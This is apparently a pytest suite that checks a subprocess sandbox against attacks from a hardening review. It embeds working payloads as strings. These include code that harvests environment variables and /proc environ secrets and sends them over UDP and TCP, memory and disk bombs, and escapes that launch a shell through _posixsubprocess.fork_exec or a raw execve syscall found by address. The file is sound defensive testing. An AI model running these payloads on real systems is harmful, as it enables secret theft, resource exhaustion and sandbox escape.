"""Attacks from the hardening review (issue 12), run through the real subprocess sandbox.

Each test runs the attack as sandboxed code and checks, from outside, that nothing got out:
no datagram reached the test's listener, no secret reached any output, no file appeared
outside, the totals stayed under the caps.
"""

from __future__ import annotations

import ctypes
import json
import platform
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from langmarl.sandbox import SandboxLimits, run_python
from langmarl.sandbox.seccomp import ARCHITECTURES
from langmarl.testing.listener import LoopbackListener
from langmarl.verifiers import PythonVerifier

SECRET_DB_URL = "postgres://u:secretpw@db.internal:5432/prod"
SECRET_TOKEN = "tok-3f9c-very-secret"


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
    """The caller's environment holds a database URL with a password and a token."""
    monkeypatch.setenv("DATABASE_URL", SECRET_DB_URL)
    monkeypatch.setenv("TOKEN", SECRET_TOKEN)
    return "secretpw", SECRET_TOKEN


@pytest.fixture
def listener() -> Iterator[LoopbackListener]:
    with LoopbackListener() as server:
        yield server


EXFILTRATE = r"""
import json, os, socket, subprocess, sys
PORT = {port}
loot = {{"env": dict(os.environ)}}
for pid in (os.getppid(), 1):
    try:
        loot[f"proc{{pid}}"] = open(f"/proc/{{pid}}/environ", "rb").read().decode("latin-1")
    except OSError as exc:
        loot[f"proc{{pid}}"] = repr(exc)
blob = json.dumps(loot).encode()
outcomes = {{}}
def attempt(name, action):
    try:
        action()
        outcomes[name] = "sent"
    except Exception as exc:
        outcomes[name] = f"{{type(exc).__name__}}: {{exc}}"[:200]
udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: udp().sendto(blob, ("127.0.0.1", PORT)))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(blob))
CHILD = (
    "import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    "s.sendto(sys.stdin.buffer.read(), ('127.0.0.1', %d)); print('child sent')" % PORT
)
attempt("child_udp", lambda: subprocess.run([sys.executable, "-c", CHILD], input=blob, check=True))
print(json.dumps(loot))
print("OUTCOMES " + json.dumps(outcomes))
"""


def _outcomes(stdout: str) -> dict[str, str]:
    line = [x for x in stdout.splitlines() if x.startswith("OUTCOMES ")][-1]
    return json.loads(line.removeprefix("OUTCOMES "))


@pytest.mark.parametrize("allow_subprocess", [False, True])
def test_udp_exfiltration_of_the_environment_is_contained(
    secrets: tuple[str, str], listener: LoopbackListener,
    allow_subprocess: bool,
) -> None:  # fmt: skip
    port = listener.port
    code = EXFILTRATE.format(port=port)
    result = run_python(code, limits=SandboxLimits(allow_subprocess=allow_subprocess))
    assert result.ok, result.stderr  # the attack catches every failure and reports it
    outcomes = _outcomes(result.stdout)
    assert outcomes["udp"].startswith("PermissionError") and "network_blocked" in outcomes["udp"]
    assert outcomes["tcp"].startswith("PermissionError")
    if allow_subprocess:  # a child interpreter has no audit hook: seccomp and the netns hold
        assert outcomes["child_udp"].startswith("CalledProcessError")
        assert "[Errno 1] Operation not permitted" in result.stderr
    else:
        assert "subprocess_blocked" in outcomes["child_udp"]
    assert listener.received() == []
    for secret in secrets:
        assert secret not in result.stdout and secret not in result.stderr
    assert "DATABASE_URL" not in result.stdout and "TOKEN" not in result.stdout
    assert result.degraded == [] and result.landlock_abi >= 1


async def test_a_verified_solution_cannot_exfiltrate_either(
    secrets: tuple[str, str], listener: LoopbackListener
) -> None:
    port = listener.port
    verifier = PythonVerifier(timeout=20.0)
    await verifier.setup()
    outcome = await verifier.verify(EXFILTRATE.format(port=port), None)
    assert outcome.result is not None and "OUTCOMES" in outcome.result
    assert "sent" not in _outcomes(outcome.result).values()
    assert listener.received() == []
    text = json.dumps(outcome.model_dump(mode="json"))
    assert all(secret not in text for secret in secrets)


def test_the_network_namespace_has_only_a_down_loopback() -> None:
    """Only ``lo``, without a single route: not even the host's 127.0.0.1 is reachable."""
    code = (
        "lines = open('/proc/self/net/dev').read().splitlines()[2:]\n"
        "print(sorted(line.split(':')[0].strip() for line in lines))\n"
        "print(len(open('/proc/self/net/route').read().splitlines()[1:]))\n"
    )
    result = run_python(code)
    assert result.ok, result.stderr
    assert result.stdout.split("\n")[:2] == ["['lo']", "0"]


MEMORY_BOMB = """
import os, time
children = []
for index in range(8):
    pid = os.fork()
    if pid == 0:
        block = b"x" * (400 * 1024 * 1024)
        print("allocated", index, flush=True)
        time.sleep(30)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print("all children finished")
"""


def test_forked_memory_bomb_is_capped_in_total() -> None:
    """8 children x 400 MB under memory_mb=512: RLIMIT_AS alone let them hold 3.2 GB."""
    limits = SandboxLimits(memory_mb=512, max_disk_mb=16, timeout_s=60)
    result = run_python(MEMORY_BOMB, limits=limits)
    assert not result.ok and result.killed_reason == "memory_limit", result.stderr[-500:]
    assert result.stdout.count("allocated") <= 1  # two would be 800 MB
    assert "all children finished" not in result.stdout
    assert result.memory_peak_mb is not None and result.memory_peak_mb <= 512 + 16
    assert "total memory limit" in result.stderr


DISK_BOMB = """
import os
written = 0
try:
    for index in range(64):
        with open(f"fill{index}", "wb", buffering=0) as handle:
            for _ in range(8):
                written += handle.write(b"x" * (1024 * 1024))
finally:
    print("written", written, "files", len(os.listdir(".")), flush=True)
"""


def test_many_files_are_capped_by_the_total_disk_limit() -> None:
    """64 files of 8 MB (512 MB) against max_disk_mb=32: each file is under max_file_bytes."""
    limits = SandboxLimits(max_disk_mb=32, max_file_bytes=16 * 1024 * 1024, timeout_s=30)
    result = run_python(DISK_BOMB, limits=limits)
    assert not result.ok and result.killed_reason == "disk_limit", result.stderr[-500:]
    written = int(result.stdout.split()[1])
    assert 16 * 1024 * 1024 < written <= 32 * 1024 * 1024
    assert "No space left on device" in result.stderr


def test_many_empty_files_are_capped_too() -> None:
    code = "import os\nfor i in range(100_000):\n    open(f'f{i}', 'w').close()\n"
    result = run_python(code, limits=SandboxLimits(max_disk_mb=16, timeout_s=30))
    assert not result.ok and result.killed_reason == "disk_limit", result.stderr[-500:]


FORK_EXEC = """
import importlib.util, os, sys
MARKERS = [os.path.abspath("inside.txt"), sys.argv[1] + "/outside.txt"]
SCRIPT = ("echo pwned > %s; echo pwned > %s" % tuple(MARKERS)).encode()
def launch(fork_exec):
    errpipe_read, errpipe_write = os.pipe()
    pid = fork_exec(
        [b"/bin/sh", b"-c", SCRIPT], [b"/bin/sh"], True, (errpipe_write,), None, None,
        -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, False, False, -1,
        None, None, None, -1, None, False,
    )
    os.close(errpipe_write)
    error = b""
    while chunk := os.read(errpipe_read, 200):
        error += chunk
    os.waitpid(pid, 0)
    return error.decode() or "ran"
import _posixsubprocess
spec = importlib.util.find_spec("_posixsubprocess")
fresh = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fresh)
for name, module in (("loaded", _posixsubprocess), ("fresh", fresh)):
    try:
        print(name, launch(module.fork_exec))
    except PermissionError as exc:
        print(name, "refused", exc)
print("markers", [os.path.exists(path) for path in MARKERS])
"""


def test_posixsubprocess_fork_exec_cannot_start_a_program(visible_dir: Path) -> None:
    assert sys.version_info[:2] == (3, 11), "FORK_EXEC spells fork_exec's 3.11 signature"
    result = run_python(FORK_EXEC, args=[str(visible_dir)])
    assert result.ok, result.stderr
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    assert (
        lines["loaded"].startswith("refused [sandbox]") and "subprocess_blocked" in lines["loaded"]
    )
    assert lines["fresh"].startswith("OSError:1:")  # execve refused by seccomp: EPERM
    assert lines["markers"] == "[False, False]"
    assert not (visible_dir / "outside.txt").exists()


RAW_EXECVE = """
import ctypes, os, sys
offset, number, outside = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
try:
    ctypes.CDLL(None).syscall
except PermissionError as exc:
    print("dlsym", "refused", exc)
libc = ctypes.CDLL(None, use_errno=True)
address = ctypes.cast(libc.printf, ctypes.c_void_p).value + offset  # syscall, no dlsym
syscall = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_char_p, ctypes.c_void_p,
                           ctypes.c_void_p, use_errno=True)(address)
command = b"echo pwned > inside.txt; echo pwned > " + outside.encode() + b"/outside.txt"
argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", command, None)
returned = syscall(number, b"/bin/sh", argv, None)
print("execve", returned, ctypes.get_errno(), os.path.exists("inside.txt"))
"""


def test_raw_execve_syscall_is_refused_by_the_kernel(visible_dir: Path) -> None:
    """The hook refuses looking up ``syscall``; reached by address instead, seccomp refuses."""
    libc = ctypes.CDLL(None)
    offset = (
        ctypes.cast(libc.syscall, ctypes.c_void_p).value
        - ctypes.cast(  # type: ignore[operator]
            libc.printf, ctypes.c_void_p
        ).value
    )
    execve = ARCHITECTURES[platform.machine()][1]["execve"]
    result = run_python(RAW_EXECVE, args=[str(offset), str(execve), str(visible_dir)])
    assert result.ok, result.stderr
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    assert lines["dlsym"].startswith("refused [sandbox]") and "syscall" in lines["dlsym"]
    assert lines["execve"] == "-1 1 False"  # EPERM, and the shell never ran
    assert not (visible_dir / "outside.txt").exists()


CLOSURE_ATTACK = Path(__file__).with_name("closure_attack.py").read_text()


def test_rewriting_the_hook_through_a_traceback_changes_nothing(visible_dir: Path) -> None:
    """The reviewer's trick: walk tb_frame/f_back from a refusal and rewrite the hook's
    closure cells (``deny`` -> no-op, roots -> everything, flags -> True). Against the old
    hook this let ``subprocess.run`` through; now there is nothing to rewrite."""
    result = run_python(CLOSURE_ATTACK, args=[str(visible_dir)])
    assert result.ok, result.stderr
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines() if " " in line)
    assert lines["cells"] == "changed: 0"
    assert lines["subprocess"].startswith("refused PermissionError [sandbox]")
    assert lines["write"].startswith("refused PermissionError [sandbox]")
    assert list(visible_dir.iterdir()) == []
